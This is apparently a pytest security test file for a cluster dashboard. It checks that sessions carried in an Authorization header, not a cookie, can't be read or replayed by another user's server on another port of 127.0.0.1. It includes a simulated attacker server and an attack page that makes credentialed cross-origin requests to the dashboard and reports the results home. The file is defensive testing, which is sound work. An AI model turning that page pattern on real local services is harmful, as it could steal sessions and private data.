"""A dashboard session that a page, or a server, on another port of the same host cannot use.

Cookies are scoped by host, not by port, and SameSite counts every port of 127.0.0.1 as one
site. When a login put the session id in a cookie, the operator's browser sent it to every
server on 127.0.0.1, whoever ran it: another local user's server on another port received it
with each request the browser made there (and could replay it), and a page of that server
made the browser carry it on its own requests to the dashboard. Now the session lives in the
dashboard origin's own storage and travels only in an `Authorization` header its scripts add,
bound to the Host:port it was issued under; no cookie is set or read.

The victim's dashboard is on 127.0.0.1:A, logged in, in a real Chromium. The attacker's server
is a small aiohttp app on 127.0.0.1:B that records everything it receives and serves a page
that fetches, form-posts, embeds and navigates to A's data URLs.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import aiohttp
import pytest
from aiohttp import web

from client.model import JobSpec
from coordinator.server import Coordinator
from tests._helpers import free_port
from tests.browser.conftest import chromium_executable
from tests.service.test_dashboard import TOKEN, _node, base, coord  # noqa: F401 - fixture

WAIT_MS = 30_000
NODE = "victim-node-7"
"""In the cluster's data (`/api/overview`) only."""
ENTRY = "victims-private-entrypoint.py"
"""In the job's data (`/api/jobs/ID`) only; the job's id is in URLs, so it is no marker."""


@dataclass
class Received:
    """One request the attacker's server got."""

    method: str
    path: str
    headers: dict[str, str]
    body: str


@dataclass
class Attacker:
    """Another local user's web server on another port of 127.0.0.1."""

    url: str
    received: list[Received] = field(default_factory=list)
    reports: asyncio.Queue[dict[str, str]] = field(default_factory=asyncio.Queue)
    page: list[str] = field(default_factory=list)
    """The attack page's HTML, once the test has written it."""


def _attack_page(dashboard: str, job_id: str) -> str:
    """Every way a page on another origin reaches the dashboard's data, then a report home and
    a top-level navigation to a data URL."""
    paths = json.dumps(["/api/overview", f"/api/jobs/{job_id}"])
    return f"""<!doctype html>
<html><body>
<iframe name="sink"></iframe>
<iframe src="{dashboard}/api/overview"></iframe>
<img src="{dashboard}/api/jobs/{job_id}">
<form id="post" method="post" action="{dashboard}/api/jobs/{job_id}" target="sink">
  <input name="x" value="1"></form>
<script>
(async () => {{
  const A = {json.dumps(dashboard)};
  const got = {{}};
  for (const path of {paths}) {{
    try {{
      const r = await fetch(A + path, {{credentials: "include"}});
      got["cors " + path] = r.status + " " + (await r.text());
    }} catch (e) {{ got["cors " + path] = "refused: " + e; }}
    try {{
      const r = await fetch(A + path, {{credentials: "include", mode: "no-cors"}});
      got["no-cors " + path] = r.type + " " + r.status + " " + (await r.text());
    }} catch (e) {{ got["no-cors " + path] = "refused: " + e; }}
  }}
  document.getElementById("post").submit();
  await fetch("/report", {{method: "POST", body: JSON.stringify(got)}});
}})();
</script>
</body></html>"""


@pytest.fixture
async def attacker() -> AsyncIterator[Attacker]:
    port = free_port()
    state = Attacker(url=f"http://127.0.0.1:{port}")

    async def record(request: web.Request) -> web.Response:
        body = (await request.read()).decode("utf-8", errors="replace")
        state.received.append(
            Received(request.method, request.path_qs, dict(request.headers), body)
        )
        if request.path == "/report":
            await state.reports.put(json.loads(body))
            return web.Response(text="thanks")
        if request.path == "/attack" and state.page:
            return web.Response(text=state.page[0], content_type="text/html")
        return web.Response(text="nothing here")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", port)
    await site.start()
    try:
        yield state
    finally:
        await runner.cleanup()


@pytest.fixture
async def chromium() -> AsyncIterator[Any]:
    executable = chromium_executable()
    try:
        from playwright.async_api import async_playwright
    except ImportError:
        pytest.skip("playwright is not installed (pip install -e '.[dev]')")
    async with async_playwright() as pw:
        browser = await pw.chromium.launch(
            executable_path=executable, headless=True, args=["--no-sandbox", "--disable-gpu"]
        )
        try:
            yield browser
        finally:
            await browser.close()


async def _authenticates(dashboard: str, headers: dict[str, str]) -> bool:
    """Whether these headers (a Cookie, an Authorization), replayed from any client, read the
    dashboard's data."""
    kept = {k: v for k, v in headers.items() if k.lower() in ("cookie", "authorization")}
    if not kept:
        return False
    async with (
        aiohttp.ClientSession() as http,
        http.get(dashboard + "/api/overview", headers=kept) as resp,
    ):
        return resp.status == 200


async def _victim_logs_in(ctx: Any, dashboard: str) -> Any:
    """The victim's tab: logged in through the login form, the cluster page showing the node."""
    page = await ctx.new_page()
    await page.goto(dashboard + "/")
    await page.wait_for_url(dashboard + "/login", timeout=WAIT_MS)
    await page.fill("#token", TOKEN)
    await page.click("button[type=submit]")
    await page.wait_for_url(dashboard + "/", timeout=WAIT_MS)
    await page.wait_for_selector(f'tr[data-node="{NODE}"]', timeout=WAIT_MS)
    return page


async def _what_the_browser_holds_for(ctx: Any, page: Any) -> list[str]:
    """Every cookie value and every stored value of the dashboard's origin: whatever a session
    is made of."""
    held = [c["value"] for c in await ctx.cookies()]
    stored = await page.evaluate(
        "[...Object.values(localStorage), ...Object.values(sessionStorage)]"
    )
    held += [str(v) for v in stored]
    return [v for v in held if len(v) >= 16]


async def test_another_ports_server_and_pages_get_nothing_of_the_session(
    coord: Coordinator,  # noqa: F811
    attacker: Attacker,
    chromium: Any,
) -> None:
    dashboard = base(coord)
    node = _node(coord, NODE, slots=2)
    await node.connect()
    ctx = await chromium.new_context()
    try:
        job_id = await coord.service.submit(JobSpec(entrypoint=["python", ENTRY]))
        victim = await _victim_logs_in(ctx, dashboard)
        secrets = await _what_the_browser_holds_for(ctx, victim)
        assert secrets, "the logged-in browser holds some session"

        # The victim, still logged in, opens the other user's page in another tab.
        attacker.page.append(_attack_page(dashboard, job_id))
        page = await ctx.new_page()
        from_dashboard: list[Any] = []
        page.on(
            "response",
            lambda r: from_dashboard.append(r) if r.url.startswith(dashboard + "/") else None,
        )
        await page.goto(attacker.url + "/attack")
        report = await asyncio.wait_for(attacker.reports.get(), WAIT_MS / 1000)
        # Last, the page sends the whole tab to a data URL (same site, so a strict cookie went).
        await page.evaluate(f"location.href = {json.dumps(dashboard + '/api/jobs/' + job_id)}")
        await page.wait_for_url(dashboard + "/api/jobs/" + job_id, timeout=WAIT_MS)
        await page.wait_for_load_state(timeout=WAIT_MS)
        # The victim keeps using the dashboard meanwhile: it still works for them, and shows
        # them the markers this test looks for.
        await victim.reload()
        await victim.wait_for_selector(f'tr[data-node="{NODE}"]', timeout=WAIT_MS)
        await victim.goto(f"{dashboard}/jobs/{job_id}")
        await victim.wait_for_selector(f'p.entry:has-text("{ENTRY}")', timeout=WAIT_MS)
        await victim.goto(attacker.url + "/elsewhere")

        # (a) Nothing the attacker's server received reads the dashboard, replayed from anywhere.
        assert attacker.received, "the attacker's server saw the victim's browser"
        for got in attacker.received:
            text = json.dumps([got.path, got.headers, got.body])
            for secret in [TOKEN, *secrets]:
                assert secret not in text, f"the attacker's server received a secret: {got.path}"
            assert not await _authenticates(dashboard, got.headers), got.path

        # (b) The page on the other port got no data: the dashboard answered none of its
        # requests (fetch, no-cors fetch, iframe, image, form post, navigation) with any.
        assert len(from_dashboard) >= 5, [r.url for r in from_dashboard]
        answered = [(r.request.method, r.url, r.status) for r in from_dashboard]
        assert all(status in (401, 403) for _, _, status in answered), answered
        for r in from_dashboard:
            try:
                body = (await r.body()).decode(errors="replace")
            except Exception:  # an opaque or blocked response may have no body to read
                continue
            assert NODE not in body and ENTRY not in body, r.url
        shown = json.dumps(list(report.values())) + await page.content()
        assert NODE not in shown and ENTRY not in shown, report
    finally:
        await ctx.close()
        await node.close()


async def test_a_session_id_in_a_cookie_authenticates_nothing(coord: Coordinator) -> None:  # noqa: F811
    """A browser sends cookies of 127.0.0.1 to every port: the dashboard must not take one."""
    dashboard = base(coord)
    async with aiohttp.ClientSession() as http:
        sid = await _login(http, dashboard)
        for name in ("gelastic_session", f"gelastic_session_{coord.dashboard.port}"):  # type: ignore[union-attr]
            async with http.get(
                dashboard + "/api/overview", headers={"Cookie": f"{name}={sid}"}
            ) as resp:
                assert resp.status == 401, name
        async with http.get(dashboard + "/api/overview", headers=_session(sid)) as resp:
            assert resp.status == 200


async def test_a_login_sets_no_cookie(coord: Coordinator) -> None:  # noqa: F811
    async with (
        aiohttp.ClientSession() as http,
        http.post(base(coord) + "/login", json={"token": TOKEN}, allow_redirects=False) as resp,
    ):
        assert resp.status == 200
        assert "Set-Cookie" not in resp.headers
        assert TOKEN not in await resp.text()


async def test_a_session_is_bound_to_the_host_and_port_it_was_issued_under(
    coord: Coordinator,  # noqa: F811
) -> None:
    """A session id that reached another name of the dashboard (another origin of the browser,
    whose storage is not the dashboard's) is refused there."""
    dashboard = base(coord)
    port = coord.dashboard.port  # type: ignore[union-attr]
    async with aiohttp.ClientSession() as http:
        sid = await _login(http, dashboard)
        for host in (f"localhost:{port}", f"[::1]:{port}"):
            async with http.get(
                dashboard + "/api/overview", headers={**_session(sid), "Host": host}
            ) as resp:
                assert resp.status == 401, host
        async with http.get(
            dashboard + "/api/overview", headers={**_session(sid), "Host": f"127.0.0.1:{port}"}
        ) as resp:
            assert resp.status == 200


async def test_a_login_from_another_origin_gets_no_session(coord: Coordinator) -> None:  # noqa: F811
    """A page on another port posting the token (it would need it) gets nothing: the login
    takes JSON only (a form cannot send it without a preflight) and checks the Origin."""
    dashboard = base(coord)
    other = f"http://127.0.0.1:{free_port()}"
    async with aiohttp.ClientSession() as http:
        async with http.post(
            dashboard + "/login", json={"token": TOKEN}, headers={"Origin": other}
        ) as resp:
            assert resp.status == 403
        async with http.post(dashboard + "/login", data={"token": TOKEN}) as resp:
            assert resp.status == 415


async def _login(http: aiohttp.ClientSession, dashboard: str) -> str:
    async with http.post(dashboard + "/login", json={"token": TOKEN}) as resp:
        assert resp.status == 200
        sid = (await resp.json())["session"]
    assert isinstance(sid, str) and len(sid) >= 40 and TOKEN not in sid
    return sid


def _session(sid: str) -> dict[str, str]:
    return {"Authorization": f"Session {sid}"}
